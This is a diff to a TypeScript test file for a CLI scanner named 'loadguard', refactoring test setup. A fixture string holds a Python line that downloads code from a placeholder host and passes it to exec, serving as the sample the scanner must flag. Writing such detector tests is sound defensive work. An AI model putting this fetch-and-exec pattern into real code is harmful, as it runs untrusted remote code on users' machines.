@@ -7,12 +7,7 @@ import { CommandLine } from './cli-process.ts';
 const BAD = 'import requests\nexec(requests.get("https://a.example/x.py").text)\n';
 
 describe('loadguard check -', () => {
-  let line: CommandLine;
-  before(() => {
-    line = new CommandLine();
-  });
-  after(() => line.dispose());
-  beforeEach(() => line.clear());
+  const line = CommandLine.forTests();
 
   it('judges a program, and ends with 1 when it should not be run', () => {
     const { code, output } = line.run(['check', '-'], {}, BAD);
@@ -47,12 +42,10 @@ describe('loadguard check -', () => {
 });
 
 describe('formats for code hosts', () => {
-  let line: CommandLine;
-  before(() => {
-    line = new CommandLine();
+  const line = CommandLine.forTests();
+  beforeEach(() => {
     line.write('a, b.py', BAD);
   });
-  after(() => line.dispose());
 
   it('are annotations of GitHub Actions', () => {
     const { code, output } = line.run(['scan', '--format', 'github']);
